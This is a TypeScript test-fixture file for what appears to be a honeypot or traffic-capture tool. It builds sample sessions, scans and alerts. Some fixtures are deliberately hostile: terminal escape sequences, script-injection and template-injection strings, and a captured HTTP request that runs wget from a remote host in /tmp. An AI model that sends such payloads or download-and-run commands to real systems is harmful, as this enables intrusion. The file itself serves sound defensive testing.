// Records for tests of whatever shows them: ordinary ones, and ones in which every attacker-controlled part is hostile.
// Deterministic: identifiers carry the time and a number, not chance.

import type { Micros } from '../../src/base/clock.ts';
import type { AlertRecord, ProbeRecord, WeirEvent } from '../../src/model/event.ts';
import { createIdentifier } from '../../src/model/identifier.ts';
import type { Chunk, Direction, SessionRecord } from '../../src/model/session.ts';

/** Sorts as real identifiers do; `number` keeps several of one moment apart. */
export const sampleId = (at: Micros, number = 0): string =>
  `${createIdentifier(at).slice(0, 11)}${number.toString().padStart(8, '0')}`;

export const sampleChunk = (at: Micros, direction: Direction, text: string | Uint8Array): Chunk => ({
  at,
  direction,
  bytes: typeof text === 'string' ? Buffer.from(text, 'latin1') : text,
});

/** A closed TCP session in which nothing was said, unless `facts` says more. */
export function sampleSession(at: Micros, number: number, facts: Partial<SessionRecord> = {}): SessionRecord {
  const chunks = facts.chunks ?? [];
  const bytesOf = (direction: Direction): number =>
    chunks.filter((chunk) => chunk.direction === direction).reduce((sum, { bytes }) => sum + bytes.length, 0);
  return {
    id: sampleId(at, number),
    sequence: 0,
    start: at,
    end: at + 1_250_000,
    transport: 'tcp',
    source: { ip: '203.0.113.9', port: 40_000 + (number % 25_000) },
    destination: { ip: '10.66.3.4', port: 22 },
    sourceReliable: true,
    diversion: 'dmz',
    service: 'catch-all',
    persona: 'linux-web',
    outcome: 'client-closed',
    bytesIn: bytesOf('in'),
    bytesOut: bytesOf('out'),
    firstChunk: 0,
    truncated: false,
    ...facts,
    chunks,
  };
}

/** What a terminal, a log or a page must never act on. */
export const hostileText =
  '\u001b]0;owned\u0007\u001b[2J\u001b[1;1H\r\n<img src=x onerror="window.owned=1"><script>window.owned=1</script>\u202e\u0000\u009b31m\'"&{{7*7}}';

export const hostileBytes = Buffer.concat([
  Buffer.from('GET /<script>window.owned=1</script> HTTP/1.1\r\nUser-Agent: \u001b[2J\u001b]0;owned\u0007', 'latin1'),
  Buffer.from([0x00, 0xff, 0x9b, 0x33, 0x31, 0x6d, 0x07, 0x08, 0x7f]),
  Buffer.from('\r\n\r\n'),
]);

/** A session in which everything the attacker chooses is hostile. */
export const hostileSession = (at: Micros, number: number): SessionRecord =>
  sampleSession(at, number, {
    destination: { ip: '10.66.3.5', port: 8080 },
    protocol: 'http',
    tls: {
      version: 'TLS 1.3',
      serverName: hostileText,
      ja3: 'e7d705a3286e19ea42f587b344ee6865',
      ja4: 't13d1516h2_8daaf6152771_b0da82dd1658',
      alpn: [hostileText],
    },
    userName: hostileText,
    password: hostileText,
    tags: [hostileText],
    chunks: [sampleChunk(at + 1000, 'in', hostileBytes), sampleChunk(at + 2000, 'out', 'HTTP/1.1 404 Not Found\r\n\r\n')],
  });

export const sampleProbe = (at: Micros, number: number, facts: Partial<ProbeRecord> = {}): ProbeRecord => ({
  id: sampleId(at, number),
  start: at,
  end: at + 900_000,
  source: '198.51.100.7',
  sourcePort: 54_321,
  diversion: 'dmz',
  targets: [
    { ip: '10.66.3.4', port: 23, transport: 'tcp', kind: 'closed', count: 2 },
    { ip: '10.66.3.4', port: 161, transport: 'udp', kind: 'filtered', count: 1 },
    { ip: '10.66.3.9', port: 0, transport: 'icmp', kind: 'echo', count: 1 },
  ],
  unlisted: 0,
  syn: { ttl: 242, ipId: 54_321, doNotFragment: false, window: 65_535, sequence: 7, options: '', system: 'ZMap' },
  ...facts,
});

export const sampleAlert = (at: Micros, number: number, facts: Partial<AlertRecord> = {}): AlertRecord => ({
  id: sampleId(at, number),
  at,
  name: 'address-conflict',
  severity: 'high',
  message: '10.66.3.9 is used by 00:11:22:33:44:55: the address was given back',
  details: { ip: '10.66.3.9' },
  ...facts,
});

/** An hour of life before `now`: an SSH login, an HTTP request, a silent client, UDP, a scan, an alert, hostility. */
export function sampleEvents(now: Micros): WeirEvent[] {
  const second = 1e6;
  const ssh = sampleSession(now - 12 * second, 1, {
    protocol: 'ssh',
    userName: 'root',
    password: '123456',
    sourceMac: '00:0c:29:aa:bb:cc',
    syn: {
      ttl: 54,
      ipId: 1,
      doNotFragment: true,
      window: 64_240,
      sequence: 3_735_928_559,
      options: 'mss,sok,ts,nop,ws',
      mss: 1460,
      windowScale: 7,
      system: 'Linux 3.11+',
    },
    chunks: [
      sampleChunk(now - 12 * second + 1200, 'out', 'SSH-2.0-OpenSSH_9.2p1 Debian-2\r\n'),
      sampleChunk(now - 12 * second + 42_000, 'in', 'SSH-2.0-libssh2_1.9.0\r\n'),
    ],
  });
  const http = sampleSession(now - 300 * second, 2, {
    source: { ip: '2001:db8::7', port: 50_001 },
    destination: { ip: '2001:db8:66::4', port: 80 },
    protocol: 'http',
    outcome: 'server-closed',
    chunks: [
      sampleChunk(
        now - 300 * second + 500,
        'in',
        'GET /shell?cd+/tmp;wget+http://198.51.100.1/x HTTP/1.1\r\nHost: 10.66.3.4\r\n\r\n',
      ),
      sampleChunk(now - 300 * second + 900, 'out', 'HTTP/1.1 404 Not Found\r\nContent-Length: 0\r\n\r\n'),
    ],
  });
  const silent = sampleSession(now - 3000 * second, 3, { destination: { ip: '10.66.3.4', port: 3389 }, outcome: 'idle' });
  const udp = sampleSession(now - 2 * second, 4, {
    transport: 'udp',
    sourceReliable: false,
    destination: { ip: '10.66.3.4', port: 53 },
    protocol: 'dns',
    outcome: 'open',
    end: undefined,
    chunks: [sampleChunk(now - 2 * second, 'in', Buffer.from('12340100000100000000000007657861', 'hex'))],
  });
  return [
    { kind: 'session', session: silent },
    { kind: 'session', session: http },
    { kind: 'session', session: hostileSession(now - 60 * second, 5) },
    { kind: 'session', session: ssh },
    { kind: 'session', session: udp },
    { kind: 'probe', probe: sampleProbe(now - 30 * second, 6) },
    { kind: 'alert', alert: sampleAlert(now - 45 * second, 7) },
    {
      kind: 'system',
      system: {
        id: sampleId(now - 90 * second, 8),
        at: now - 90 * second,
        name: 'process-started',
        program: 'gateway',
        message: 'gateway started',
        details: {},
      },
    },
  ];
}
